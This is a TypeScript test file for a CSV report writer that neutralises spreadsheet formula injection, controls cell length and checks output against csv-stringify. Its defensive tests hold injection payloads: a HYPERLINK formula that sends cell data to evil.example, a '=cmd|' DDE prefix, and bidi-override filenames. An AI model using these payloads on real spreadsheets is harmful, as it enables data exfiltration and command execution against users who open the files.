/**
 * The CSV writer: RFC 4180 that csv-parse reads back to the same findings,
 * a UTF-8 BOM, CRLF records, every cell a spreadsheet could run as a formula
 * neutralised (OWASP), cells cut at Excel's limit, and byte-for-byte the
 * output csv-stringify gives for the same cells.
 */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { escapeControls } from '../../src/core/report/escape.js';
import { csvCell, csvColumns, limitCell, maxCellLength, neutraliseFormula, toCsv, truncationMarker, writeCsv } from '../../src/core/report/csv.js';
import type { Report } from '../../src/core/report/types.js';
import { writers } from '../../src/core/report/writers.js';
import { isWellFormed, rawBidi } from './helpers.js';
import { dangerous, hostile, hostileReport, seed, seedReport, syntheticReport } from './hostile.js';

const synthetic = syntheticReport();

function records(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv.slice(1), { relax_column_count: false, record_delimiter: '\r\n' }) as string[][];
}

/** What a spreadsheet would treat as a formula: a leading =, +, -, @, tab, CR/LF or their full-width forms, also after white space. */
const formulaLike = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;

const message = (check: string) => seedReport.findings.find((finding) => finding.check === check)!.message;

describe('csv writer', () => {
  it('writes one row per finding of the seed pair with the expected columns', () => {
    const csv = writers.csv(seedReport, seed);
    expect(csv.split('\r\n').length).toBe(seedReport.findings.length + 2); // header, rows, empty after the last CRLF
    const [header, ...rows] = records(csv);
    expect(header).toEqual([...csvColumns]);
    expect(rows).toEqual([
      [
        'link-span',
        'warning',
        'Hvað er hagræðing á samfélagsmiðlum (SMO)?',
        'seeds/smo.is.md:10',
        'seeds/smo.no.md:10',
        expect.stringMatching(/^Hagræðing á samfélagsmiðlum \(SMO\) er notkun \[samfélagsmiðlaneta\].*…$/),
        expect.stringMatching(/^Optimalisering av sosiale medier \(SMO\) er bruken av \[sosiale\].*…$/),
        message('link-span'),
        '',
      ],
      [
        'punctuation',
        'info',
        'Aðferðir fyrir hagræðingu á samfélagsmiðlum',
        'seeds/smo.is.md:24',
        'seeds/smo.no.md:24',
        expect.stringMatching(/^Samfélagsmiðlar gera notendum kleift/),
        expect.stringMatching(/^Sosiale medieplattformer lar brukere/),
        message('punctuation'),
        '',
      ],
      [
        'heading-format',
        'warning',
        'Hápunktar',
        'seeds/smo.is.md:30',
        'seeds/smo.no.md:30',
        '##Hápunktar',
        '## Høydepunkter',
        message('heading-format'),
        '',
      ],
      // The left excerpt starts with a list marker "-": neutralised like any other leading minus.
      [
        'bullet-marker',
        'warning',
        'Hápunktar',
        'seeds/smo.is.md:32',
        'seeds/smo.no.md:32',
        expect.stringMatching(/^'- Hagræðing/),
        expect.stringMatching(/^– Optimalisering/),
        message('bullet-marker'),
        '',
      ],
    ]);
    for (const row of rows) for (const cell of [row[5]!, row[6]!]) expect(Array.from(cell.replace(/^'/, '')).length).toBeLessThanOrEqual(100);
  });

  it('reads back to the same findings on the hostile pair and the hostile report', () => {
    for (const { report, options } of [
      { report: hostileReport, options: hostile },
      { report: synthetic.report, options: synthetic },
    ] as Array<{ report: Report; options: { leftText: string; rightText: string } }>) {
      const [, ...rows] = records(writers.csv(report, options));
      expect(rows.length).toBe(report.findings.length);
      rows.forEach((row, index) => {
        const finding = report.findings[index]!;
        expect(row).toHaveLength(csvColumns.length);
        expect(row[0]).toBe(neutraliseFormula(finding.check));
        expect(row[1]).toBe(finding.severity);
        expect(row[3]).toBe(finding.left ? neutraliseFormula(escapeControls(`${report.left.path}:${finding.left.line}`)) : '');
        expect(row[4]).toBe(finding.right ? neutraliseFormula(escapeControls(`${report.right.path}:${finding.right.line}`)) : '');
        expect(row[7]).toBe(neutraliseFormula(escapeControls(finding.message)));
      });
    }
  });

  it('neutralises every cell a spreadsheet could read as a formula', () => {
    for (const { report, options } of [
      { report: hostileReport, options: hostile },
      { report: synthetic.report, options: synthetic },
    ]) {
      const csv = writers.csv(report, options);
      expect(isWellFormed(csv)).toBe(true);
      expect(csv).not.toMatch(rawBidi);
      const cells = records(csv).flat();
      const risky = cells.filter((cell) => formulaLike.test(cell));
      expect(risky).toEqual([]);
      // Every cell stays on one line (line breaks shown as \n), so nothing starts a formula after a break either.
      expect(cells.filter((cell) => /[\r\n]/.test(cell))).toEqual([]);
    }
    // The hostile report puts each dangerous string in a message; each comes back neutralised.
    const messages = records(writers.csv(synthetic.report, synthetic))
      .slice(1)
      .map((row) => row[7]);
    for (const text of ['=HYPERLINK("http://evil.example","click")', '+1', '-2', '@SUM(A1:A2)', '＝1', '＋1', '－1', '＠SUM(1)']) {
      expect(messages).toContain(`'${text}`);
    }
    expect(messages).toContain("'=1\\n2");
    expect(messages).toContain('\\n=1+1'); // the line break is shown as `\n`: a backslash starts no formula
    expect(messages).toContain("' =1+1");
    expect(messages).toContain("'\t=1");
    // The hostile pair's section titled =HYPERLINK(…) and the path starting with = are neutralised too.
    const hostileCells = records(writers.csv(hostileReport, hostile)).flat();
    expect(hostileCells).toContain(`'=HYPERLINK("http://evil.example/?q="&A1,"click")`);
    expect(records(writers.csv(synthetic.report, synthetic)).slice(1)[0]![3]).toMatch(/^'=cmd\|/);
  });

  it('neutralises leading white space before a formula character, and leaves ordinary text alone', () => {
    expect(neutraliseFormula(' =1')).toBe("' =1");
    expect(neutraliseFormula('\n=1')).toBe("'\n=1");
    expect(neutraliseFormula('  \t+1')).toBe("'  \t+1");
    expect(neutraliseFormula('\u00A0@x')).toBe("'\u00A0@x");
    expect(neutraliseFormula('\t')).toBe("'\t");
    expect(neutraliseFormula('– en dash')).toBe('– en dash');
    expect(neutraliseFormula('a=1')).toBe('a=1');
    expect(neutraliseFormula(' plain')).toBe(' plain');
    expect(neutraliseFormula('')).toBe('');
  });

  it('cuts cells over 32,767 characters with a marker, without splitting a surrogate pair', () => {
    expect(limitCell('x'.repeat(maxCellLength))).toBe('x'.repeat(maxCellLength));
    const cut = limitCell('y'.repeat(maxCellLength + 10));
    expect(cut.length).toBe(maxCellLength);
    expect(cut.endsWith(truncationMarker)).toBe(true);
    const emoji = limitCell('😀'.repeat(maxCellLength));
    expect(emoji.length).toBeLessThanOrEqual(maxCellLength);
    expect(isWellFormed(emoji)).toBe(true);
    // In a file: a huge message comes back at Excel's limit.
    const { report } = syntheticReport();
    report.findings[1]!.message = `=${'z'.repeat(100_000)}`;
    const row = records(writeCsv(report, {}))[2]!;
    expect(row[7]!.length).toBe(maxCellLength);
    expect(row[7]!.startsWith("'=zzz")).toBe(true);
  });

  it('writes exactly what csv-stringify (escape_formulas) writes for the same cells', () => {
    for (const { report, options } of [
      { report: seedReport, options: seed },
      { report: hostileReport, options: hostile },
      { report: synthetic.report, options: synthetic },
    ]) {
      const csv = writers.csv(report, options);
      const cells = records(csv);
      const reference = stringify(cells, { escape_formulas: true, record_delimiter: 'windows', bom: true });
      expect(csv).toBe(reference);
    }
    // Including cells that need quoting: quotes, commas, CRLF.
    const tricky = [['a"b', 'c,d', 'e\r\nf', '', ' ', 'plain']];
    expect(toCsv(tricky)).toBe(stringify(tricky, { record_delimiter: 'windows' }));
    // A lone LF or CR is quoted too (csv-stringify with CRLF records leaves a lone LF bare, which Excel reads as a row break).
    const breaks = [['g\nh', 'i\rj', 'k']];
    expect(toCsv(breaks)).toBe('"g\nh","i\rj",k\r\n');
    expect(parse(toCsv([...tricky, ...breaks]), { relax_column_count: true })).toEqual([...tricky, ...breaks]);
  });

  it('keeps each dangerous string readable in a cell: controls visible, text otherwise intact', () => {
    expect(csvCell('\u202Eexe.txt')).toBe('\\u{202E}exe.txt');
    expect(csvCell('lone \uD800 surrogate')).toBe('lone \uFFFD surrogate');
    expect(csvCell('pipe | and `backtick`')).toBe('pipe | and `backtick`');
    expect(dangerous.map(csvCell).every((cell) => !formulaLike.test(cell))).toBe(true);
  });
});
